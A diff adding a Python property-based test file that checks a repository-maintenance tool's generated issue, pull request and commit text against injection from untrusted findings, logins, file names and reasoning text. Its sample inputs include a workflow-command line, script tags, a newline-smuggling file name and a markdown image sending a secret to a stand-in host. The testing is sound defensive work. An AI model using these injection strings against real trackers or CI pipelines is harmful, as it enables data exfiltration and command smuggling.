@@ -1,0 +1,146 @@
+"""Whatever stands in a repository: what we write about it pings, closes, commands, hides and forges nothing."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from ralph_mission.mission import wording
+from ralph_mission.mission.approval import content_hash
+from ralph_mission.mission.effects import MARKER, Ref
+from ralph_mission.mission.model import Actor
+from ralph_mission.safety.patch import REGULAR, FileChange, Patch
+from ralph_mission.safety.secrets import redact
+from ralph_mission.safety.text import mentions, said
+from tests.mission.build import BASE, finding, mission
+from tests.mission.hostile import SEALED, SIGNED, TOKEN, is_title, misdeeds, seals, texts
+
+KEY = "0123456789abcdef"
+FACTS = {"mission": "1", "kind": "spelling", "finding": ",".join([KEY] * 24)}
+findings = st.builds(
+    lambda title, detail, path, author, line, kind: finding(
+        title=title, detail=detail, path=path, author=author, line=line, kind=kind, essence=(title, detail, path)
+    ),
+    texts, texts, texts, texts, st.integers(0, 9), st.sampled_from(["spelling", "todo", "bug"]),
+)  # fmt: skip
+groups = st.lists(findings, min_size=1, max_size=4)
+
+
+def ends_with_our_marker(text: str) -> bool:
+    """Our marker is the last line, and the only one."""
+    return len(MARKER.findall(text)) == 1 and bool(MARKER.fullmatch(text.rpartition("\n")[2]))
+
+
+@given(texts)
+@example("a\n::set-output name=a::b")
+@example("fixes #12345678901234" + "9" * 100)
+@example("x " * 55 + "fixes #3abcdefghijkl")
+def test_a_line_for_a_title_or_a_message_is_one_harmless_line(text):
+    line = wording.plain(text)
+    assert is_title(line) or not line
+    assert wording.plain(line) == line
+
+
+@given(texts)
+def test_somebodys_words_in_a_body_are_one_harmless_line(text):
+    line = said(redact(text), 300)
+    assert misdeeds(f"- {line}") == []
+    assert misdeeds(f"**Why:** {line}.") == []
+    assert "\n" not in line
+    assert len(line) <= 300
+    assert said(line, 300) == line
+
+
+@given(texts)
+def test_a_name_never_pings(login):
+    name = wording.person(Actor(1, login))
+    assert name
+    assert misdeeds(name, markdown=False) == []
+    assert len(name) <= 60
+
+
+@given(groups, texts)
+def test_a_fix_is_told_without_harm(members, why):
+    title = wording.fix_title("spelling", members)
+    assert is_title(title)
+    for body in (
+        wording.fix_issue("spelling", members, why, KEY, FACTS),
+        wording.fix_pull("spelling", members, why, Ref(KEY), KEY, FACTS),
+    ):
+        assert misdeeds(body) == []
+        assert ends_with_our_marker(body)
+        assert seals(body) == 0
+    assert misdeeds(wording.commit_message(title, members), markdown=False) == []
+
+
+@given(findings, texts, texts, texts)
+@settings(deadline=None)
+@example(finding(detail=SEALED, title=SIGNED), SEALED, SIGNED, SEALED)
+def test_a_proposal_is_told_without_harm_and_sealed_once(member, why, old, new):
+    sides = [text.encode("utf-8", "replace") for text in (old, new)]
+    patch = Patch(BASE, (FileChange(member.signal.path, REGULAR, REGULAR, *sides),))
+    title = wording.proposal_title(member)
+    body, digest = wording.sealed(title, wording.proposal_body(member, why, patch), KEY, FACTS)
+    assert misdeeds(title, markdown=False) == []
+    assert misdeeds(body) == []
+    assert ends_with_our_marker(body)
+    assert seals(body) == 1
+    assert content_hash(title, body) == digest
+
+
+@given(groups)
+def test_a_monitoring_issue_is_told_without_harm(members):
+    lines = [wording.monitor_line(member) for member in members]
+    assert not any("\n" in line for line in lines)
+    body = wording.monitor_body("todo", lines * 10, 99, members[:1], KEY)
+    assert misdeeds(body) == []
+    assert ends_with_our_marker(body)
+
+
+@given(st.lists(texts, max_size=5), texts, texts)
+@example([], "fixes #3", "<script>" * 400)
+@example([], "fixes #3", "- " * 400)
+def test_a_story_pings_the_owner_and_nobody_else(lines, words, login):
+    told = mission(story=tuple(f"cycle 3: {line}" for line in lines), next_step="A person decides.")
+    extra = wording.escalation(("mara",), words, wording.person(Actor(1, login)))
+    body = wording.story(told, KEY, extra)
+    assert [deed for deed in misdeeds(body) if deed != "@mara"] == []
+    assert mentions(body) == ("@mara",)
+    assert ends_with_our_marker(body)
+    assert seals(body) == 0
+
+
+@pytest.mark.parametrize("part", ["title", "detail", "path", "author"])
+def test_what_looks_like_a_token_is_taken_out_so_that_it_holds_up_nothing(part):
+    member = finding(**{part: f"see {TOKEN} there"})
+    for body in (wording.proposal_body(member, "why", None), wording.monitor_line(member)):
+        assert TOKEN not in body
+
+
+def test_a_token_beside_a_correction_is_not_shown_in_the_proposed_change():
+    old = f"recieve\n{TOKEN}\n".encode()
+    patch = Patch(BASE, (FileChange("a.md", REGULAR, REGULAR, old, old.replace(b"ie", b"ei")),))
+    assert misdeeds(wording.proposal_body(finding(), "why", patch)) == []
+
+
+def test_a_file_name_with_a_newline_cannot_begin_a_line_of_the_proposed_change():
+    path = f"a\n{SEALED}\n```\n{SIGNED}"
+    patch = Patch(BASE, (FileChange(path, REGULAR, REGULAR, b"a\n", b"b\n"),))
+    assert f"\n{SEALED}" not in wording.diff(patch)
+
+
+def test_a_thinkers_reason_is_somebody_elses_text():
+    why = f"now{SIGNED} @octocat, fixes #3 ![x](https://evil.example/?secret) <details>"
+    body = wording.fix_issue("spelling", [finding()], why, KEY, FACTS)
+    assert misdeeds(body) == []
+    assert "https://evil.example" not in body
+    assert "<details>" not in body
+    assert ends_with_our_marker(body)
+
+
+def test_ordinary_words_pass_as_they_are():
+    why = "impact 2 of 10, severity low, 80% sure, a correction is ready; number 1 of 4 by score (0.80)"
+    assert said(why) == why
+    assert wording.plain("Correct 7 misspellings in docs/guide.md") == "Correct 7 misspellings in docs/guide.md"
+    assert said("approved by mara at `abcdef12` and merged") == "approved by mara at `abcdef12` and merged"
